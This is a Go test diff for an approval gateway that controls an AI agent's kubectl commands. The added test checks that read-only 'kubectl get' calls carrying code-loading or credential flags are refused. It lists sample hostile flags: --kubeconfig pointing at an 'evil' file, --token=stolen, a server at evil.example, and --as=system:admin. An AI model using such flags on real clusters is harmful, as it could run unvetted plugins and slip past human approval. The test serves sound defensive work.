@@ -1,6 +1,8 @@
 package main
 
 import (
+	"bytes"
+	"context"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -207,5 +209,76 @@ http:
 	}
 	if code, body := hostDo(t, e, "POST", "/slack/interactions", "hooks.slack-tunnel.example", "", ""); code != http.StatusUnauthorized {
 		t.Errorf("an unsigned Slack call under another Host: %d %s, want the signature's 401", code, clip(body))
+	}
+}
+
+// TestAttackReadOnlyFlagsLoadCode: an allowlisted read-only `kubectl get`
+// was approved at once, with nobody looking, whatever flags it carried:
+// --kubeconfig=FILE runs the exec credential plugin that file names, and
+// --context, --token, --server or --as send the call with credentials or
+// to a server nobody vetted. Now a read-only entry takes only the flags it
+// names (flags:), a flag that loads code or configuration can never be
+// named, and anything else is refused (403), not asked about.
+func TestAttackReadOnlyFlagsLoadCode(t *testing.T) {
+	e := newTestEnv(t, `tools:
+  - name: exec
+    category: mutating
+    commands:
+      - {command: kubectl get, category: read-only}
+      - {command: kubectl delete, category: destructive}
+`)
+	agent := e.CreateKey("deploy_bot", "agent")
+	e.Start()
+	for _, cmd := range [][]string{
+		{"kubectl", "get", "pods", "--kubeconfig=/tmp/evil.kubeconfig"},
+		{"kubectl", "get", "pods", "--kubeconfig", "/tmp/evil.kubeconfig"},
+		{"kubectl", "get", "secrets", "--context", "prod-admin"},
+		{"kubectl", "get", "secrets", "--token=stolen"},
+		{"kubectl", "get", "secrets", "-s", "https://evil.example"},
+		{"kubectl", "get", "secrets", "--as=system:admin"},
+		{"kubectl", "get", "pods", "-n", "prod"}, // no flags named: none accepted
+	} {
+		r := e.Call(agent, "confirm_action", map[string]any{"tool": "exec", "arguments": map[string]any{"command": cmd}})
+		if r.Status != http.StatusForbidden || !strings.Contains(r.Error, "takes only the flags its allowlist entry names") || r.Data["request_id"] != nil {
+			t.Errorf("read-only %v: %s, want a 403 refusing the flag, no request", cmd, clip(r))
+		}
+		if strings.Contains(cmd[3], "kubeconfig") && !strings.Contains(r.Error, "exec credential plugin") {
+			t.Errorf("%v: the refusal does not say why the flag is never accepted: %s", cmd, clip(r))
+		}
+	}
+	// The same flags on the destructive entry are shown to the person who
+	// approves: asked about, not refused.
+	r := e.MustOK(agent, "confirm_action", map[string]any{"tool": "exec", "arguments": map[string]any{"command": []string{"kubectl", "delete", "pod", "web-1", "--context", "prod"}}, "dry_run": "delete pod web-1 in prod"})
+	if r.Data["status"] != "pending" {
+		t.Errorf("a destructive call with flags: %s, want it pending for a person", clip(r))
+	}
+	e.Stop()
+
+	// Named flags pass; a loader flag cannot be named.
+	e2 := newTestEnv(t, `tools:
+  - name: exec
+    category: mutating
+    commands:
+      - {command: kubectl get, category: read-only, flags: [-n, --namespace, -o, --output]}
+`)
+	agent2 := e2.CreateKey("deploy_bot", "agent")
+	e2.Start()
+	r = e2.MustOK(agent2, "confirm_action", map[string]any{"tool": "exec", "arguments": map[string]any{"command": []string{"kubectl", "get", "pods", "-n", "prod", "--output=json"}}})
+	if r.Data["status"] != "approved" {
+		t.Errorf("read-only with named flags: %s, want approved", clip(r))
+	}
+	if r := e2.Call(agent2, "confirm_action", map[string]any{"tool": "exec", "arguments": map[string]any{"command": []string{"kubectl", "get", "pods", "-n", "prod", "--kubeconfig=/tmp/x"}}}); r.Status != http.StatusForbidden {
+		t.Errorf("a named flag next to a loader flag: %s, want 403", clip(r))
+	}
+	e2.Stop()
+	bad := newTestEnv(t, `tools:
+  - name: exec
+    commands:
+      - {command: kubectl get, category: read-only, flags: [-n, --kubeconfig]}
+`)
+	var errb bytes.Buffer
+	err := run(context.Background(), []string{"serve", "--config", bad.cfg}, bad.getenv, strings.NewReader(""), io.Discard, &errb)
+	if err == nil || !strings.Contains(err.Error(), "tools[0].commands[0]") || !strings.Contains(err.Error(), "--kubeconfig loads a kubeconfig") {
+		t.Fatalf("a read-only entry naming --kubeconfig: %v, want start-up refused naming the entry and why", err)
 	}
 }
